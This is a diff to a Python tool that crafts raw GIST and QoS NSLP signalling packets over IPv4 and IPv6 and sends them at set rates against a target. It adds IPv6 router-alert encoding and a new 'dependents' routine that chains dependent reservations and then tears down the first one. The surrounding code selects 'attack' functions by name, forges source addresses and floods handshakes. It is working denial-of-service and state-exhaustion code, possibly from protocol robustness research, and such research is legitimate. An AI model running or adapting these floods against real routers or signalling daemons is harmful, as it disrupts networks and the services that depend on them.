@@ -23,14 +23,16 @@ MAGIC = bytes.fromhex("4e04bda5")
 GIST, UDP, RSVP = 270, 17, 46
 CASP, SCOUT = 50003, 50004
 ALERT = bytes.fromhex("94040000")
+ALERT6 = bytes.fromhex("1100050200000100")
 PING, QOS = 32704, 1
 QUERY, RESPONSE, CONFIRM, DATA = 0, 1, 2, 3
+EPOCH = 7
 
 rng = random.Random(1)
 
 
 def ip(text):
-    return socket.inet_aton(text)
+    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)
 
 
 def checksum(octets):
@@ -58,8 +60,17 @@ def forged():
     return struct.pack("!I", 0xC6120000 | rng.getrandbits(17))
 
 
-def packet6(src, dst, protocol, payload):
+def packet6(src, dst, protocol, payload, alert=False):
+    if alert:
+        protocol, payload = 0, ALERT6 + payload
     return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + src + dst + payload
+
+
+def udp6(src, dst, payload):
+    """A datagram of GIST; with IPv6 its checksum is needed."""
+    octets = udp(payload)
+    total = checksum(src + dst + struct.pack("!II", len(octets), UDP) + octets)
+    return octets[:6] + struct.pack("!H", total or 0xFFFF) + octets[8:]
 
 
 def forged6():
@@ -77,18 +88,21 @@ def gist(kind, objects, nslp, flags, c=0x80):
 
 def mri(src, dst, port=None):
     """A flow downstream; with a port a flow of UDP."""
+    version, bits = (0x60, 128) if len(src) == 16 else (0x40, 32)
     if port is None:
-        return struct.pack("!BxBB4s4sBBxx", 0, 0x40, 0, src, dst, 32, 32)
-    return struct.pack("!BxBB4s4sBBBBHH", 0, 0x48, 0x60, src, dst, 32, 32, UDP, 0, 0, port)
+        return struct.pack("!BxBB", 0, version, 0) + src + dst + struct.pack("!BBxx", bits, bits)
+    ends = src + dst + struct.pack("!BBBBHH", bits, bits, UDP, 0, 0, port)
+    return struct.pack("!BxBB", 0, version | 0x08, 0x40) + ends
 
 
 def nli(address, identity=None):
-    return struct.pack("!BBBxI", 4, 64, 0x40, 30000) + (identity or rng.randbytes(4)) + address
+    version = 0x60 if len(address) == 16 else 0x40
+    return struct.pack("!BBBxI", 4, 64, version, 30000) + (identity or rng.randbytes(4)) + address
 
 
-def query(src, dst, address=None, identity=None, session=None, nslp=PING):
+def query(src, dst, address=None, identity=None, session=None, nslp=PING, port=None):
     objects = [
-        (0, mri(src, dst)),
+        (0, mri(src, dst, port)),
         (1, session or rng.randbytes(16)),
         (2, nli(address or src, identity)),
         (5, rng.randbytes(8)),
@@ -96,18 +110,25 @@ def query(src, dst, address=None, identity=None, session=None, nslp=PING):
     return gist(QUERY, objects, nslp, 0x40)
 
 
-def reserve(rate):
-    """A RESERVE with a QSPEC for controlled load of so many octets a second (RFC 5974, RFC 5975)."""
+def reserve(rate, bound=None):
+    """A RESERVE with a QSPEC for controlled load of so many octets a second (RFC 5974, RFC 5975). With `bound`, its session depends on
+    that one."""
     tmod = struct.pack("!HHfffII", 0x8001, 5, rate, 3000.0, float("inf"), 1, 1500)
     qspec = struct.pack("!II", 7, 6) + tmod
     objects = [
-        (2, struct.pack("!I", 1) + rng.randbytes(4)),
+        (2, struct.pack("!II", 1, EPOCH)),
         (1, rng.randbytes(4)),
         (3, struct.pack("!I", 30000)),
+        *([(4, struct.pack("!I", 4) + bound)] if bound else []),
         (11, qspec),
     ]
     body = b"".join(struct.pack("!HH", kind, len(value) // 4) + value for kind, value in objects)
     return struct.pack("!BBH", 1, 1, 0) + body
+
+
+def tear(number):
+    """A RESERVE that ends a reservation: TEAR, and a newer RSN."""
+    return struct.pack("!BBH", 1, 2, 0) + struct.pack("!HHII", 2, 2, number, EPOCH)
 
 
 # RSVP (RFC 2205)
@@ -324,18 +345,74 @@ def identities(seconds, rate, target, dst, own):
     print(f"{sent} Queries in {seconds:g} s, {confirmed} confirmed")
 
 
-def confirm(out, message, address, asked, own, dst):
+def objects_of(message):
     at, found = 12, {}
     while at + 4 <= len(message):
         kind, words = struct.unpack("!HH", message[at : at + 4])
         found[kind & 0xFFF] = message[at + 4 : at + 4 + (words & 0xFFF) * 4]
         at += 4 + (words & 0xFFF) * 4
+    return found
+
+
+def confirm(out, message, address, asked, own, dst):
+    found = objects_of(message)
     identity = asked.pop(found.get(1), None)
     if identity is None or 6 not in found:
         return 0
     objects = [(0, mri(own, dst)), (1, found[1]), (2, nli(own, identity)), (6, found[6])]
     out.sendto(gist(CONFIRM, objects, PING, 0x80, 0), (address, GIST))
     return 1
+
+
+def dependents(seconds, rate, target, dst, own):
+    """Handshakes and reservations of sessions each of which depends on the one before it, from the address OWN, over IPv4 or IPv6; in
+    the last three seconds the first one is torn down (T01)."""
+    ours, theirs, identity = ip(own), ip(dst), rng.randbytes(4)
+    v6 = len(ours) == 16
+    family = socket.AF_INET6 if v6 else socket.AF_INET
+    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    answers = socket.socket(family, socket.SOCK_DGRAM)
+    answers.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
+    answers.bind((own, GIST))
+    answers.setblocking(False)
+    names, reserved, ended, begin = [], {}, 0, time.monotonic()
+
+    def ask(number):
+        name = struct.pack("!I", number) + bytes(12)
+        message = query(ours, theirs, ours, identity, name, QOS, 1000 + number)
+        if v6:
+            octets = packet6(ours, theirs, UDP, udp6(ours, theirs, message), alert=True)
+        else:
+            octets = packet(ours, theirs, UDP, udp(message), alert=True)
+        raw.sendto(octets, (dst, 0))
+        return name
+
+    def say(number, kind, last, nslp_data=None):
+        objects = [(0, mri(ours, theirs, 1000 + number)), (1, names[number]), (2, nli(ours, identity)), *last]
+        if nslp_data:
+            objects.append((8, nslp_data))
+        answers.sendto(gist(kind, objects, QOS, 0x80, 0), (target, GIST))
+
+    print("started", flush=True)
+    while (elapsed := time.monotonic() - begin) < seconds:
+        while len(names) < min(elapsed, seconds - 3) * rate:
+            names.append(ask(len(names)))
+        try:
+            while True:
+                found = objects_of(answers.recv(4096))
+                if 6 not in found:
+                    continue
+                [number] = struct.unpack("!I", found[1][:4])
+                say(number, CONFIRM, [(6, found[6])])
+                before = names[number - 1] if number else None
+                say(number, DATA, [], reserve(1.0, before))
+                reserved[number] = True
+        except BlockingIOError:
+            time.sleep(0.001)
+        if elapsed > seconds - 3 + ended:
+            ended += 1
+            say(0, DATA, [], tear(1 + ended))
+    print(f"{len(names)} Queries in {seconds:g} s, {len(reserved)} reservations asked for")
 
 
 def many_addresses(target):
@@ -451,7 +528,7 @@ def connections(seconds, rate, target, port=GIST, *_):
 def main():
     kind, seconds, rate, target, *rest = sys.argv[1:]
     attack = globals()[kind]
-    if kind in ("identities", "connections", "deaf"):
+    if kind in ("identities", "dependents", "connections", "deaf"):
         attack(float(seconds), float(rate), target, *rest)
     else:
         send(attack(target, *rest), float(seconds), float(rate))
